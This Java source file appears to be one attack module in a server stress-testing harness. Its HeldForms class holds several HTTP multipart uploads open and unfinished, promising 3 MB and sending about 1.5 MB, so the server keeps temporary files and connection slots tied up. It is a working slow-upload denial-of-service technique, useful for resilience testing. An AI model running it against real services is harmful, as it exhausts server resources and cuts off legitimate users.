package io.jiayou.trials.siege;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Forms with a file that never comes to its end: they want it kept in the meantime, as temporary files. */
final class HeldForms implements Attack {

    private static final int WANTED = 6;
    private static final int PIECES = 24;
    private static final String PIECE = "x".repeat(64 * 1024);
    private static final String FORM = "POST /api/sessions/refresh HTTP/1.1\r\nHost: h\r\n"
            + "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 3000000\r\n\r\n"
            + "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\n";

    private final String address;
    private long begun;

    HeldForms(String address) {
        this.address = address;
    }

    @Override
    public String name() {
        return "held forms";
    }

    @Override
    public void run(Field field) throws Exception {
        List<Line> open = new ArrayList<>();
        while (field.goesOn()) {
            while (open.size() < WANTED && field.goesOn()) {
                begin(open, field);
            }
            field.pause(2_000);
            for (Line line : List.copyOf(open)) {
                if (!line.piece(1).isEmpty() || line.isOver() || isGone(line)) {
                    open.remove(line);
                    line.close();
                }
            }
        }
        for (Line line : open) {
            line.close();
        }
    }

    private void begin(List<Line> open, Field field) throws IOException, InterruptedException {
        Line line;
        try {
            line = Line.open(address, field.port());
        } catch (IOException noPlace) {
            field.pause(100);
            return;
        }
        begun++;
        open.add(line);
        try {
            line.send(FORM);
            for (int n = 0; n < PIECES; n++) {
                line.send(PIECE);
            }
        } catch (IOException refused) {
            field.pause(100);
        }
    }

    /** A drop a round, so that nobody is silent. */
    private static boolean isGone(Line line) {
        try {
            line.send("x");
            return false;
        } catch (IOException e) {
            return true;
        }
    }

    @Override
    public String done() {
        return begun + " begun";
    }
}
